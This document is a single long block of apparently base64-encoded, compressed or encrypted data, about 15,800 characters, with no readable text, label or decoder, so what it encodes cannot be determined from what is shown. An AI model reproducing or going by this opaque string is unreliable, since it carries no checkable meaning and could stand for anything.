w3kc9m0JICnVrQArHwdF8k+9Rj9Ipnh17yfZV0efaI6k3anSsHqf+zl3PfVc225aZkG/YMHJoZgYweUnNxUtMbRclR150+9RTBOPfjFsxWV0Mvs3Xbyv0+H1CLne9iTxZ35WgkvL3zos5bPzZAqr60uRzPv3yllz5dUiQ7BI1p+6+4wmGz08Ob9jsYXK3rTWpJh6GaZPjkqCdzn69p8xJTFri/KAcJ969q7XB3x9lvPBwxuTsE4kNzx9Cbk6eGttB/grm9p0BYxNjULCXXnr669tapvvqXXsbD0grKYQkcrgm+OJ0mMnbdVNGQu6Btb00C1j8fxJ971vllLy7q0OmvgsvBNHjaLvh+VflOorpO88lfXRGSDv1s7vy9tNvyMohema2SdLiqPWbixINNQlN9Zcw+Hqw2bmYVE0SkzSRx0AmPscFs9hvkdz8MZvd5AGJ96pseruf3arwtG2fs/5E5eZpvxz70ue2mlw7T1FN2gS9GM7blyXHmSYgcjknAS5DK4t5pcnnW0f2u16+viwhgkc3jPGH4ic9ApfQ+54EE6/7Xh8Q810GPNUDNEHTQIkM80f/t2z3hRz3K/k8GMnRHqYoxpKAaOK5G1NhSMDe+Y+Z0meDxVJ3X61H5O9rNVZcf0dP6V9Cz2rbmP6+bzVCzati3jHqeGDf6/yiJzskP8EmoU1KXqI5Ww9LalE8g7Eq2cZIc+jZq46Q9jC9C5vTPgfBu/5a2lvAEY3ONpOSxp4mearqybblxV/bBi3snoSpErT14aYX7Q59zuPobmOgeHXQHs2u7i5JPkdbPznMMWk5ki8Qc+jdb+4ozHcy2DJP2I5pNWGYPppstHok9Q/M7Tr+fvk7Qv2vKDo7GSSg2+vdKcJR0kxw9OkSpiO5egSe49MSNclOQadv8LPV57wbX2zfe9WHrEn0qpn8uCZzuRaXzqxa5ab9ipvbfEpO92099XfMEZkc/m5L8TjxdgOqhKDNmj7vA6zdzjwlPr2Z3VnOnR5v/lrGSns66a7CSwtK53RRLg3T+kwVUvmb9p3365nTY/dLkt/ndMaTIfWIJ9i7/ToNOSzZDEbd7C/fbR48RdWAATVJMD2ini9tnsLzub2B4xf55rv57Odz1uNSdzsmUc+BJYE2Od29JyK5PJi/RGPeObB8Ph+fAtt5LO0kBLIT0sOE0HLEwzmfz9Bt2xK1k+07hoeq5fCMHInYpNaEPCVJANKmCq8viQwm27N0habaDwl30JNT5nvp5p2jSX5zMDED/5/mj2/oVX16Mq2eOsfXyZ23/eU934LbKxVpfgpPb9/Cr25yzqBx26TEBn9pYWl8m8anJKerglo3zxE80qSmtUaTvFMT18+V5BuOzLBKhmwuZf6ApMlbTZrUjtdEAPf5Brek7yr25nQt55vE7uMkw/3ABeV5TGpv39vzc3x+F8vN2WFIKMndtm71Nm2d/ZNv84QlY5Pr6Gc/Hu3kVzhswNZA5ySZXCUAnEFevUk9C53agg0oNjdlvV5+1OZTlmIcRp7rqSH+tCT9JCH71iNGmzP5jYcF+l3fiT2ELwu5MXhnEksrNPmb6zaWJWd9TShFSOOLJyH7Fd29DpajqR4TbWL7jDNX5DhevpCLTUi6uV0qNQ562nwo52Y/Jz1JrOYtAakhEGyzHlcwXx426KVVP7v3xZcU+bqKg9d0BsS48pQmGc7FG4AjiXjq3b2P7VMnaFNhQNlrGuRxbSh6qXqp5hBu3/7UyZJT/3ROJ8smSfbz2GemOcv8fU0nmaurp3jKU5FSUUWpu8kb4nFo+j01ZpIeL1++pCdNPKHOyMNx/tFLCw3p83+lTVNB8fTznjzY9rSN1nMGbYb1Z4UqHvj3N0f2PpLh3LDZfSSyWUzjmeaeMGojJNGalKXkdFssz1xMPNIH+4kuienD6O2zHd+XAZ7el0vxYNVwem5k+Usg3mTCOWti3qpXkUnDw2gKxYB4MOJx8jeYw+FExy5PpEjkL32ONZ/zod2dyPBfk6WYZ6KJqZqz9r0vafMsWPWSPoqARx6wnuRsApDQXkvaz+43cZLU+ePPE5oTjuGc9Qk9Rw1/f/zLIyae/zxlQ72QS1K+3s0lV9bVr5Okiq2hP/E9wg/m2M53d4MlojC5ukGNrn6dtD9feGT1dyk0bKqWgnxOf8z0HZCSyTk/UD0k13w2ZLGSLfH1rlJPc/5x7hqSw6TbJmbpO8U8l3S/z8PjPZt9tqFLvknSE4mnZ+WOeFyx+8E0YVYHX8lplEPHS5oKIVR5abN63fwFIWxfDBE0TVqaODN+ommjevmqugs3JPQz0ufh8kvKx/xHFU3wV4WTNJU3VNzTNWmtf+L9Jtc2Hr3kJr57gWCijcd4KQKUdT+26ZhHYdSWOsqzgOc9b0+5Fo6sp4O2N/zS589+n4+/JAiY0AtNY9zjalQ18CeSI0Kt/Z4Vkd8nJ7yQ43JOTdq5+Uyau+y0kBDeKYGO9etPvJKTpdvANWUmsDJMkhmTi5VrQe9eJ9ztjaiFvSQV2oQkcUmgzCkQDp+fPuo5G1XBaqm0Z1vl6Tkp3vaLV8Ff2SxHoxfU1JnBxFSaXY2SHKXJHtWoc5Dq32DOOX3Uw9YO/tqQYjIXxY8v3w/SAko7vGVoHrGstlmq7+aA0HCTljK3+9Xly3Cadd6T5tKkpm3nNJpUtGn02SfBxpOXJqRQxbTVpmbDYZuoN2uDwIXOM0MgENqTSG6APDGdSePu7iN9mj99ifaU9Pabpq+f1tEmz0mSll+aUgvJ9pAbzbPnlmOzhbvdS2euyanlvRyi/uBslGg9OQP7mGFKoEn2lFKPloz57PeUq3LYp5QZU/e9oNfaznCc20N64UqZMZx/tnvbH94q2l4u/krQhVxOcdPDw9gok2tbQkLJFjjn/DiYueJ/0sW1h+4dM5djdhVMkh57pBi4ZKSMeU6Pr0P7N+x9Ufkl55pL+Jm+vKO28ZI/L3hwhNpLQlNy5Zcln2yb9wv5pS8YC0nabrYRMBA42W7s50HIeUmIMzO2fJ4VzV8I2xdj7bUoDH+7Xx+XJM9vj18aPenIGZNqc0hOkVhYry780oT1OVUZ3N32nQOfjZInf7YR7SYfaNbD40GTeG7G8ySPrLnkOb8xp+Ya0SZpTxgxOu9i7SRxHPXw6+1zvrTt/Ygw6SBiadLSdw7aFMk5Z5Wn9E7TJHEuzoM1a6FzwquoMedzh2up4RzRkn0RqSnZl/SqgRx0jmJOsXIKYF+yzx+0chWhzYtjAM425zChIVCNGuDzfBzgJ1h6znCwCbRuYP7cUk1v5JTBJPSXbE63xKtyGCeX/jINKVEzTYy+53S02/RQWm8mEGuSlEsvPFhit+Zy0nmCo+/77H6V4pVfk/q2SyAmIZ7c4BOAl4s1khD5A20+8enN35XW470hNvmX0Fp2syXDbeDgpAw8bH4OmHaTKnk4EC1P2R7vUqNM6FwHaIPZSq/EvvQZ4kOS/N8v/v2wjlBRj0J+d6NEpTU5Aoepw6TGUrU+/Elyw4/+/QiJTrW8zcf+6AGQoppc5kP+msyTqWx8m+9n3/kxVyeBubudYf7mjc23cGaSUMDdd/VzmmFrIoPIlWOf6mfGgKR2s5ersDr6+2o8kufGis0D3s3kHQ+fo1f4e7KeMqOBR2MeoaEP02RDiTrYa4CiR3LdTcjbNlbMpk3u9cnjSLvGp8klgdMltIlZoQ2oXHZ13+o2QVW/zy6JzOjRxlYDG85fDgjkSOm6/Oz03PPdk5w3TpNg1EGyu3eraoI007TI3buPmjnlQNvn/wfJBoJwlgXaZK8YgzYUaYj7efsmSW7mlEjW05WEsD7n/PNINnk+SU+beJv8j39hw0uKlWgynGrp0PiS9vGkzV0tOkSHfBPy6eW4iafhJ81uM0ea8hd8eI4emmZDEm1mWn0ZTD8HadxomrZozzSpZE0g1JLCi/BpthJnvdJY26P+lzo4zWF1O91z1ke7X78VtFUa7jsfzcVTIXmKfb3qoiSq2uDfVFDJvuzYcazo1PYCAIzE8zvnFH+HKo1kuRxH2qO770Uwj0ObJMhv9vV+bLoqUpcTJv8b7OWY8TQ039PPU4TzYf7++rxJSLVHJiTBz4t/2EAxv6e80pe4Ke1JCHriZ+X4f4lfRWBTT4knm/6e26ATQqlp/INLimrLT/a5G6j2gH6L4xM/TfTwtup9/MS0ztUEZyacCQ/I2njdfbzJqCiX+F5wkjIa1dhWKPN474ZAZ69EmmgpR6uf1cPN+/nHIZPaWs+BI65yfq/XlnPieYyTp/1603yA+wan1b8//7tw+QNx+tmnqiTf7f79/YX43J7yxeTdPjlouRqzW5tTbgzx8jPJD/UEj5NN9smdAfqezTdjWoC5SM+nqQ70nJo8b/qVBHjnJ0sDxmd/aGmirGocXbjlHN+l4pbL80ey6bsnYxLdBK+XDBygdjxoWk5AKJes+W9yNDNXf5Juve/skp8aeVnzAGvSpgTx1+GEJdL2u1/o5ZxLfprU2n0Lte/SnM5Jo2qzL0F7cH8dcry0PXjeezlyCvVySSyxzyrEF3vnq1OA77bkhDWG08UlZsa0l9bHH8DmBhw8mbR13vkRojT60p7m7zIEj1PtVsO5+uuGarMlaXSYv15zIU1++fQQwFOLY9P4Szx7wPbEN+0jWbu/XpTTMyYNSaxqPVUkIZGzR4zHOZD81D8mqmpzhYxHjUaLTjnpkZs8EzZprzYmJK+tKI3n6dfR6SbvdvnhL0rXQ/3uM3LMtsff5eWAU+ytkXrVfvaLKnrMacltk2R/m49lr89mfUqryeXV19t273vZvBx+OtvE5/ashfUWmvQwydrgqfFcve1uQppEksLrmB9hspuvEj9LfdEeWquYfQUOmf0bA9oy8/f3ZXCYtpSat6HjHq3HG1As/HajmeTggI7MC7EmbV9oMik5kzhqeMpny36O8jCZbaMeaSrNDeBfzk/tnNJyxXgcf39DpCRYUppmNB4zX3Jq7ooGaGqmoZ1zEuzJE6rWTrU2ksQC0NuSUrlP9vN1m8Zz6TnKK6V/XhUKoZRq/aS2Dp30xkQz55ww3NfBBrj3rOpfm92NL7/d7+NFbwjDGdiEmZky4MU+pLY6XOjFaL/Ofi+nN6WXmficHJzT1EdXCnHSI/jSc0DqTeYbRT34H4MSzzzVHOQdv7DZc/0Rc6EpxXzyzX5tAIWB9YrtuxQMqh4kqbpvRdGffY3xh98nXNGHs8sjMiR7x2GOanOG05dN+EuXQKy4u+38jtsELg9LBV5OjO1HnOtHnL8fkXosNbpZuWqwQ4vtuQk9AHuOl5gTJL40bTWYQaOJAvos+ldPGLWc9xHxjyvGXKHzWzTJU3/kONtO9c253+Xi1AsomVzIDRKrHnrm500N1UR0s+f8fmfGXjvTHzNGKZ2RpwNiyrdDEsBK+k37+WwgaX5nGrRJ1dBtaDynojaYwV51SLYmqdZTnpScQvt5/qDUynZr0zNA7DOSI6ytvWS/rmVk7H74XWkzcRLS6H0NcG4i/T1vPquTJH1P1ONq+PrFazxk5TR40JgzKaQQ1fAYm/PlFy3+9BLBCyWSG82qipRV6fOvp+Yr0sRD+jEJmcqJi/l81hS+ykdCzj1IIpVYHTtrQ3vxNGVtqJHYetI8N99XvlfewJmSzQtib3e7daa6Dw8mgw7VV2cm/TXPNHJoqptvxz7q3fM26T747l6ru3xJloQ8fx9+4XDz6WEG6xUTDwpTDxmj6em5/Uy+UoykxdnmhO0jgXDuKXfKO2Cgq0jSw+827er9/gyNJtvPR5Pdnefs56Wmg5FGPI7kJdG33dZr3n5N/LyDA0x6RwGwR7iMgYwmdTr69pUw4+80kbGR26dtfrPaK7a4b99mIWT4Wq+itFsccB/fDQHux+9SPUODtW9Onkzfbpy7J1zi0dvkYzCcm/jX8Wc2bdhdbPwZk+wygZ5SqAKSp3L4dr38scjJ5304pH6LeC0Msla5uo8O+DOdvI9rag9NBzcEfxCv0Fj0Trxk3Z5P3xk9lVjbd+ayiRmgXvzO46jXjxyxhy9EHhnMe3M2vRQv228SoXb4birN1d4uNylDqHTbzXP2u9u/yXjyq7oHyoENANBnQSfz5NtiwDI527k6RoplbBmdaUcZBhJeXu9ul4b7uKhEle095nmZKdEm0UDbbZodC38qAWM4eU44ZQC4G7mA/A15+EnSfskQq+JqSpab6W1qBf/es9/xx3yK88e/mcfpVJOo0wxGmMOJiS8N3eq1+DM/kc97H9Pa/QPdFgH4wTA5WUyZ03AldebEPZ/dXH25ZtBNehILxOcQVMk7lxUaUcAMh9kY0v6TwV+9DLXuJZAGtUfTjqmq08Kvrd/fMOiPMX1wNtkN4TCVEpPjObofVY+v007ZonSjqGL0Tk/47DG8fa7Yq11/c+K4fdsWZkIfZpn+Ap4sRB9SAc17uWGOZnsYfzaBX6/719TJgiYB3C/mRDAaa0mqTW8PD9+xND1odR+Q/FSx3vm4VDGl52BsBLwTgpLIe4nFxfbMz3oa0EkE9CdCQX8km2SBA8KxVI/2m8k1Ud4R+8nStHFmpjfTwAkyv2Ajw18y6l6y/o78ZfgNNel7cF/26CPK6e3nc6Jp+j6a/KZJz66lm7ZJeSLd5pnt01XVv7/NYXKQzJyYw76nvwunEz4vf7MHg+dPktuUk6f2KeYlKRjUiqessY3qG/Mneb7ku91YU/XvD/APbPJn56TdLmrsDTF8c7l03bcm6Nskv4pJtB0IY/sOEg8CSraSJKGRwQTPnD3x1pdR1RFS87JZTQ2KHNqbyfnCKUmfc+5mZHo6Z2mKk3hULpQcvCx6tMG6k95+632ePw++6XNuBoVHmSPZrxh7sdvytw/rJs8WmxVg/szHzNUB//8ltjX0Ma9u+a/17YUk6m4yCb/TnbCNlJCylhvj3x/XGLHWBPFZwlVIz838/SW0P5Imy9Ar9gGbCOo0Fl6M2/WkzJ4aSQ5t9+T4nt3BQ85NDaj6vaxpZk53CjHf1fkRbchXaYbBXNJ9dS7xCa8oPkFVyPrz+fhL33zVeEngFzq2ejYPbNxnjvt+DTmRTqXGGaV4WPr2eU0cpDNiVFr4Pp8XJauBIFoutJoZk09Ocv/1tE29XBqfmxz0lFiSORrku7lGe+l6hSYlBXhKmph9ufO710ESfLfpBX5D++o8zg0xabZ7TrLtapN2CcE52asLPtV629JrjBYepN8n1Jj2UFhimSXeqjYI9ejug2MululuwgyxBlM0NPiSK/UcSz97BmrZjroaTzznYcyQK9msKEY2jxh9VRvwArFX8emL96Rn2TDrJ5qm9OXabp+TJLZhfx69qzglj9ZrTKtD5SbEetY0uzmOow1rdmEygcRvPg4VgecZVx39ze4X1URW2A/NDcnfvwlNiCezHzA5Pu0n1JfHkiR5uz/9VsPbVf/BnfYVO/2swCYPW1I4FOaVlW66tjRPKbSSv315c3jyuTVN6h/8SE4OVDV9KvjkzW+/z/fJgxRyTsw36353tSf7LMgJqwYbW9UwRPW7uwehHnPMT53v5isI03z8XM0remft82/+F73Sfp0fd+BSEuuRRFLy429Jr4ongHiUb3ixvclu0SS/1IsStNp3oBcvv7/5O7KfoGlpdvc5GWtM9QljLU3Fzcuf1eDJeCVK5b2rhaYgzEPTdvUKC3PaHfK7SS6Z8evPpf6R89XZTThkvTklianaKoY48jZ1fJz4mgzxyTxLm56/3iTxMSolNJ8UknwlbW7Gh/JvAmSaUa+330PO72wTYOKpT3vTqC80z48ozsYtSeLu2afT437sZ5/+kP5B8VQNOafUqB4dkBrdKjU5R9CeepvEzXsLn7jvDLq36XUAcswz+XVecpT0sy92kNRADp9mWkX4Fgqa6eqhIXcXWF+P3Dt/qgempeEpT8lGm3z2+2SGD1r75zkKUdHmyvnt4/RGpJkCKTfqiTE2XLQk7/J1nhjDtgqJNLswGAiZ6JgjjvXRGw1XA87yI3olHQGYxuYvIyfrG9Dnvgy0UKebVyHcM+Fno75tBkOS5ks9zXDk9OuK6gDpZw3YxLynF3Rwn8jl1xO8L81hPt+SI8mRapLuxD6QnBoyw4WGxPtO45yfVLzfDH15+3mtw5EUUlux17y1/d2XPmr9bbIKqgnqqJ8Hh2ZLPLfZbTfW48w1PdTapsz8+YjA4diSFxXAv0TydUXj4RQ1mmGENtFc8ekpOcWkYSK5sr5eEgv1SF8o3ys2HvKXixybT2y6pCZJ8oT3Zm5TKvbcX3C3n80CiupTe9RwhHOSE1Opbf6QO/dVf0yZHUZ/LUBR8Dzk40BGDks1byPJib66vTxddW7qxiHkO+Tpm6v6Qk3osl/o8HflUM/gldwfBko2te+Fc9/Z9obZff7j6hSaZGa0acShrX8zaT5YMXl14pdUL+wmDy9n9YnySVMU6i95keESJYd4jqekUiLJy0typLZJn65wH1/6zaEp9pegv2DyelSfBzFnPDL1Wl3Moa36lpdV3m1QQ6i4Hpob2uI1pF/l4/pVqdOsk/PlGa8atp+mTp4Do5paTp5NPWGugDYyT3borAe8/HPqknX261yVA/0dnFIuriZtHvQOD0Fq8o+oCTehrHfrGGO6enLJKRdRn5Bkk6jUO4dEfapNEuPePpKwSU9S0nZ5htSXmB55qU9RScGgW+dZaZPwuNDmKZ/3ttIKnvVISHfyyxUYsO9sTIqSPwYe1tyPGdLLHzPRpvWEjdTkunmXsn/MEzjJdOQKeWTwlLdJHvOe9Q+O0zWlVXqAh2JI5Pw3Tnrve2mjQ7dJy+lEPa/TUYOahjNizXhleq+3QtKcftlH+myvi2PiTXh4c3JA+9J6iHZPyRQSsKrk8ALJDbYNRW02k2Kem8v9UpFDo0nOyXH4k9gMBHKKZK+yTeF65443lIacfrXbr8omq4yeLvImp9KLx6AvL8cpWkIy//7mQdS+pxKY4IZkTOJx5PD53SdnUpuJzKbYeZrzvpyQOZvz7tskhkTUKI/q+Ir+YrNtKheJkpMNvFtO0GySwvnDF8O19f8koTjOU+l3n/lt084Px0SVnhRCFFqYniQ86cWepf0eq6apGX4ex24TeKIovE3muFQTzxcocNWIZOKQIxjzRG/fLRO03zvy45mck5bK6DEzsF2eczk9wcVu5hLN+bNPNqGW1MAwPdSZHCRQzev06ce7UIFUjeTXw2ZOeUnCALaf7sK+/ZLH7xcvDl6N+4Q+F/sU6JW639WeSLnf0GhOVjVbmeRHa2P6JYc/P/so+31u9GVvk6P4G3k3nu771J/UHlZ/TbyDn/zyIs9UBkDZLcf8Tunc/Nw2Cb2cm1M7yVWJdGMMaQIWPRFAkbOE6A156e3ucR3KcKgHcnOJmM6V55OHvDVq75JH52If5GJManefj2o5PZ+YOZmO2JdrrhC2bZSZznGxTAMMpAXDs13PeWA8b9Kf8XTfDwEZHUk++07P++UlOMXO7W8sl8SLSTAZPVcOFyRX0mljSH96nXfv28mhkqMdzu1ogCfPvcSenYCDm1wahyRrvRn6xr5nCewYIay3l2fUjM+vIWl53iS7hsTeQJtgknW/xgTr7TadY/A28ThpTxFsU0bbpvEZ2bBmX17Kfp34HHIimIfGl8ZDnz39eeNpdV8OqEIedMjDuKC9bcok+9wJ1Xq2MfoOrzprkrsV8UiDmnb3FdGbIWq6B0IQvfO7+eP89DP5HW1V3OS+J/3uZ5sQ4Cy2/ZH1pRzd1dDjEIv0BJ4vIx64nQmbDA24WwsbYjZY9epYdap5u1++4D7vBkJueLdeMKn2e7af/SrhWq4KkCOGHJJc6D60mgwcQZ63iaKRVv43eRpSwjen4zmJgTGXeG7nvPdpEzNckYHkVbPZe75vNtDnPpEB+3b7mcMYRrK2vkxP3/dVTT9fc4I8JzwQPdFT0Jae26QcM5xzmCtw4XH6i42a712ezbjsq/NMOOfI9ZwHkhMx9lUpTGPzlGjKtTolOR3nTfIMz2D8eZr8Gj9566tPCTNtMplpOJVkn6uH2hSw4aKlVUUaN+WoWrgqhJsikgtyZ2g1x5aXd9jVJNfAM4l0CCGC1SCkkMt3/ez2mjbr4+rGOk5y93y+yibVjmm/unL0aWgCI6m7z439bf3lcQyaB81TOHDQM33v1Wl6eEp0k23hnNQ+pIU//qAV+0XLVQ/+AbExzxnNU9rTpX5oAHyXvs0WtZw4Dn5kv46m+STSX2J+Tb4iGfLUwLuNPYZHMmBP7hQ9cfn0c3wCoJIvk8zze/GWze6PvvV2fTOUU7zd72F6u2agbyypY2bMiyOHSR7RQNvklysl5khePJ8yELDPMZZ3m2e7m4WfAjEJnqvhNSo9WhN9nrScmsdmzYP97HN7yiM5MZLMnJPD46VqvDlKfhw3THMZUOrtDSnwnwtlZhMve1bgToUZ+zbJbrnxnbs5GQ7oeUAa/ZudAjjJc2CspT0Ivffw9vOIcCN5LaVaz8poUweGdZtJkmRjdp+im+cKSfLF8aZsjHDiKXI5mSTby7n679+QHYK+izGe0F9rTzGxYfYdPz2Wr15o/IuVMERev4RCOCVcTD3melRMDPwfbVW3XE5LRLWmxVTye+e/sQGmSeo3edRzTnPV9na/ezQZiNW/+ePy47urSyqpD60TvDHYxx9nwjnReHIAVJakBP+6qlBc/n5pbwYgdKliUWttkWLb1P00yOYwzXdzQPuyr+P5+eJdHhafx6TdX7bBUnn69MO5kHTf6aKfT0wuoTaH6Xc9ILXR3yVRB5ok3EzFR1kMeuKPwbdtmpK0J0KTVFFoG3MiqDqDh7/J+aqrGmbyk9s2XK784/u62mxOLdf95Mvd+zb0eMAM4OQ5Yaa/c/tsQq/KU/D0FIiXvlyOeru9gZlac7H1kwjJIdV7yOfw2UFkSMWI7WH0aj1p+q6ptrO8RAf155nYa9DJnMiSU4/jqDfg6YbMTDo9JSdJ9Er66JAML8BzJ7671qTVfMIZV1Bn6tok5EhOPDdNSt6227OdgaNB9ykXTX2H+hz1PZ8D03n0WvX8cL67Yl5PwuzLKClq8O0fTOaq40RMPzmlPbJpUvnN35ycCCqTvqFPUY9+Up7LDI5BjMkMVWJPf7mf8Xfuhc6sxvRCL/tyNm6ef9DJH/I5x6bq1fg7pTfMJeSM+ZFoVuYySWSeAWibQOm77NoCUVDT0n7n6ifeZlV5vCeTq/PcFuWT5dSbCfbSaPuDTvJ6ipFz0ADtlo50qPi/hm6a59o0dUTTspvEN8Wv/u772avdz0qbvvPz5qrR3Igcz2kSFlEl0Jwim8gJ9PIjT7mqPkPk89kPtgmcXlJtUkleaYMQ6EQOabL5XgxBLcOVB/XEn17vN0kL3b56KU6zeWkvb3e3gNGQ/bT73eUsdWBDk4df5/SMt3kuqp7sEzM5PJmItWicibUGI7Q/qlnOmVpT+eOoNpCsg0mG9Pr1rO2pkBm9hiQaOH2wWYJ9NE0ZLF40G64M69XNiILta6uS4s8HqObl7c2uJtqnL17qOQeNLwYvl9Q/uGR7KhypQbkk0Te+1/FhG/mKaHp6OiXN1oQ0JnJ4eKJ6tMfnkcTAfCdROD/VA2IdWi10+TQXBGHaWo7T3xCSl71+Roz21UI5aPdR/2ZINXq+j5fvU00u0QYb8k129RStXNDs5zvKkX4xISdLCBFQKbj7y+VZjOdmzffjCmLjnT9KVtU8xCRIdIlNPpck3XHps5BfvoCJPPhItKEqxfpV8pSbUMsRmxzo4X4+Aw59NeMgf7lLTgcQE288ou+hv2jBo2acdkj2Kz/S/213I+nUTx8n9JSJZDJt0GAnb3vvaamXT3Jf60J+KBq9cjWZc5Kd+fXljzzoL0/ejxyB9Pw0fEtC16saD+kWCO1TSvQqGK2FayXo3yahX/2dFMjb26ZXt+FbWi/esldgV8d3Z4/PN+bX3V4gId1PvhDNddvsZw8enTpDpptjOFaGIc19M6w2u7HZvJyBJEhfkSoiIc4Vje+eTwfr8zt+uVdevftiV/eZJLsPaXIO/CdoXZLkKdx+HnnIfqNqntS470WTbVMmn21yftE/L/6oocuEHpf1tK8J3bgHZGebKz08f77TH5qmn0d8Obfak0/ZQ32Jg0DTmNZDE87tLTT0882Om8rEft+XKCH6ze7NzPjYFT7vcsq2DSEXrg6qv4un3BxJdGh2OhcNBFIEflm6ebkAwEZMI1trKsZu+zQnCOmRtYKH58Rb/QGlXtZqO7Gmx9sPEJtLLm+N/Un0PCRpv4IYB6opWND1MEttzrSKUZ9rUr0fgOdNzLQ5TFM1KRv+micK37z1BJcTg6pOA3oaTqm2qW4/eXM1x2ky4ylNpD09GusmJtvvvcn4q1eufNJk10AKDuVsz5DT4Oftp1qk2Vcn+LfbbcR8Pt7QXr/8DF5hyosjl3dfzm36NPRi3yFxv0enSZM2aX/fNXC0UXQJtu+OaLSKPOqbbS7UeGWgn6D0r0Wt9Ht1cAh9l5ykNi2nzSNZ8d7n041q/3ILJjPZfr4WQe3uflXS+O6Jxcq8u3eNSW3DHXbXpDhI3nt11NsiSTbdl5eTNjR5JMejiTSQmr+Z3TXtYyBumOEaCXrkrKNynXMPrX+U8OIlsTWnE+C7DnBxPw5yCseyyhmSNGnKRTQ139eeLKdYGEkspZ9r64i09kgjJlwkJNSv46nHedFQvDFxsNznlMeGP2Obw3u6/nYPr9Mb7sR+q7fcJ14lPcWc2khKkm4WCU2Kz1eE3xktOUzylK7vrn42l255pSlNeXeonO78bttL5VQ8+e+vyTOmH3KW+XEWojacSluJwCfPFSD+7JWnWH20T48mAbDylGsboyUvnH7aX/vpUtW2MZgbSzVNEnJPG6INXqBtGnonvHxRu9moNt/3WfPMVWmVF45PuAB4vo85xBp/p9kPIp5bFEjVRD7FP502V0JmMJtTLgLzM2fz4xjQY6CYpHvxq5fUsx5k8+OvXsiWnzcqv2dCgk95911L9Fxqi98y3939JjEIXeiuNqg3PLdNvTrNXhmo6u4+PB/0V7vLpelperpA5yfxmJ/QwsXNe6qmNiycYaFpFYpGmo9NDnrOsqtzYYeLu5jfAXsUqNrI930++/ZjUnQq5xj1fkURPj+fGn3kuNyLArHBh0cOE4h/4PxqsDyHwUCy+2TeK9Sf9P9cqhw2adjkhqfwTCFCPQQiy/MOwc9zeu4Z1c1TLrEe8do5Oj9NspXPgdlogmpRTMBwNipvZM/CYX7XkiSQKnC+Ip4kVA+MZgvaXiprPCVcGU/ihB6KE8L8yd8f/OPvpxJS1QtH9z3+1Tzalxapzfj7QV2Tvk3WWD0/09deRGyaKz9+KtWTFbfmCZKH3r/t7h2c5UWNDWpeBUbKSX9HozSYozT0qnNj0kSHS5Y6DJ/EX2Pt43H0bJswi7lOubgJ/D1UD+y7c/8ubOb5omyWn2gZ/pBnj8s53b1EmX6niumjviHUvo1POUpy8vL2RYbNY9T9fDd08/EraPP3x3bUq+NPlKwANcSjNF3Mar3oifp8WGnu5kLIxMZK7FYOB8Dmaa5A2nSesJeXxCnNaBgF1e5qeEuObvkxV1+uPuYZ/R2E8n0+j6TZHiKnK2CVsz/1QRIUsroVo1faOQKQ49btV89GgLSn5sKvebY9PZHgH+fa+Nxo9SB5JuihbZU9bA7hiAxJ0uNMgv64JYfELlOKIPSSR/M7ADOw5vAH/Kb5vo+x/ZupmN33SaalemiBA++cORKT8zYmSv1ZGNR2N6UpQQ7hjL9kEw+qfL5GwlVS93sPeMk5J6KaIrF9Tx/xKZLr6L7T7xhJ7VutXt7zmX6Jppvk5cqvIcYmSfJook2qqZyWAx770dNR8JwkLzH5X/Ps3SVYtJDT37+Z0Ka75j1vnXhBCrvnHvvl9L5D+lASHGG0vWbbZ+Ll+PmUJF5AaT8hl7qPU5vicE/7iqznq3KNpMZmE/JraM+q//pcA7VMTsiNDuQy1l45Lrf70dHQ5yQHRZ7NXDugoWn/WJPor5aqeTOV/Rs0L6fmo28mze4H8bQ24ThOh5OuxLNTj6fVOcBCJK0zEsfPfoj7bo9unvebjyJjrTTnzQKfFzWtgVoOt2Xjb6jmOTXfjzN/fznSBj/DiWgzeG5e7O6izPTIq6yCFJ1jA23mORyX1bSJOTQxnz4pTzxqHnvpPspwJ1nq5eZk6G4eqXqdyBkNt7FnTwYRtpPpAasIkj8etRUduISZ8XlXnlDPx3GdX+abg9Zgz8nb+HdTo9MgMZtJSY639cZetOc5fiRJJdgoOQ3Fq3vBl229OSdHgG3+MpHeySuG1Oc772/L7+OQGnKyLx2e0ny+x25v0meTLZVeSjO3PSblMO2bdnKlw1P666MXojDyZPPCGT6f79vp5J2D9uXGU8M1ST2dbrt25DZZPGKjL55R46UXYDwU1U0KzPkp+InEPGWGV70lPpqnccfd7L6Hd1dxNYJdwVPinFMchcFLa2TMDDnCxZ/8Hd97Xs88vXi006bNVsmjMtP3uKtNum9pDyuS3UeSQEXEgQxBXrnynCPE3cNy2OBvn6IKNs05rzJ6oIZa7dFPRdEpNEbamIxJo0+fcqc8pRO0KY/iaf8sm0S+rwadXkivueYPIcOe95qqQKvd5zaqp/JA+/Ke6mna9Fw9J+AvtX8weqdotj+bBMxBT8k5eYJNM2Q5x6PaP20Cg4npYEdfKdDB3+bo7lclJF4JNpoOSTjz8pUkRj2n9pfrrMREINI8tObo03Hfc6mNwqjnmfnYvS/1K7Pb49JaZTcFrIebfPGrEfj4s1J+a55P5geT3Y8v7bkTVb6m9JTmCITs5ub4I5IghzU/fz2Z7MMTMVc1SDkMtkFU0Pv69QCgpyOTGbayX02AQJ7yxFTCKUHb5Kso7TmVXiSJEkDNpRxipr/1/Mz33b4rPTXEJygxuB3yUaI4Ay+/yf+eLw+nlvPM8XzuQqObmeOkKDWce97daXpIjAnZ4C+Zown9ceQUv7treglq4Os+Rae8OVLnadeXpWW4H6HSqw5NdrP1Wt3vq9m8C5t3m+euramnK2deirStEAezHfQlkuiF6pPzR0wvGK0D83UvSeLTL03TV3JOyFl6e+SMrZLEOvz95XkYSV+ALZ6HNJcMx22/xj9tU15swt+k+Qs9pahi/F5O9ryEIGktS3qYDpZK2vwL4w/Kph8ptv6dm0OZ9FqVz+YBnjLo5damejC7j5+dp4nXyNls/OzH7FBzSXMetQZLiXn06fPd64kjPsWQvuRxjr+AIYNfar6uZ/g6uV1ujjb3JHm0J85R6r5DHeCSypy8GI+n3sAf4wmHop5wFn49X24G+LAh2bY9AbENZD+7/vKX9hfWE0m9AsRuJg8UsqVra9Xj9OSPIM8leTQKTMA+h41y8odp+cSLQE7nwstG14p9m5z7JSXnx5Z0W55i8Ifmr+SPtqeLizm8GICcFXJ9/TUGpDc7hxnRyCOMGvWofnY3yQsi1pmNHeRo4dTJ42pay4dgVEPOTRK8urHKjOz2kti8JHtjwBmh5plqT9YmL7A8a/ysoSUEfvmG5op4YhvUKpxzGtV1QIznUn2aHr8j0Utae84kP5WGyuMKJbuvlXnnfne7Kz33okv5eIXkRMGWfZk8/TFzGEySvAoNUm3kl3vzlvr379+xpHtUPymU4RxvGC5Gfm5tvj8Nx2ChNBunm8SgX9mWw+7b1Jj/XBV979XyLt99XM1wErWEj+ZHpA+0wmaSfeChQEIuh8lVcOK4I